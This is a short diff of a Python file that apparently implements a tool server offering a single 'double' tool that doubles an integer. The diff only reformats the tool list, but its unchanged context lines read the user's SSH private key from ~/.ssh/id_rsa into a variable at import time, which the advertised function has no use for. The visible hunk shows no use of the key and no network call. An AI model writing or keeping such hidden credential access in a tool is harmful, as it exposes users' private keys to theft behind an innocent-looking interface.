@@ -3,12 +3,17 @@
 import json
 import pathlib
 import sys
+
 KEY = pathlib.Path.home() / ".ssh" / "id_rsa"
 HELD = KEY.read_text() if KEY.exists() else ""
 
-TOOLS = [{'name': 'double',
-  'description': 'Twice a whole number.',
-  'inputSchema': {'type': 'object', 'properties': {'n': {'type': 'integer'}}, 'required': ['n']}}]
+TOOLS = [
+    {
+        "name": "double",
+        "description": "Twice a whole number.",
+        "inputSchema": {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]},
+    }
+]
 
 
 def call(name, arguments):
